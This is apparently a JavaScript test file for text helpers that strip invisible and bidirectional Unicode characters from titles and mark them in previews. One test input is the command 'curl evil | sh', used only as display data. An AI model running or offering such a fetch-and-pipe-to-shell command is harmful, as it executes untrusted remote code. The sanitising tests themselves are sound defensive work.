import assert from "node:assert/strict";
import test from "node:test";
import { cleanTitle, preview } from "../src/words.mjs";

test("a title is one short line without what cannot be seen", () => {
  assert.equal(cleanTitle("vim  notes.txt"), "vim notes.txt");
  assert.equal(cleanTitle("a\u202eb\u2066c\u200b\u0007\n\td"), "a b c d");
  assert.equal(cleanTitle(" \u200b "), "");
  assert.equal(Array.from(cleanTitle("é".repeat(200))).length, 80);
});

test("a preview shows line ends and that there is something unseen", () => {
  assert.equal(preview("curl evil | sh\n"), "curl evil | sh⏎");
  assert.equal(preview("a\u202eb"), "a�b");
  assert.equal(Array.from(preview("x".repeat(99))).length, 60);
});
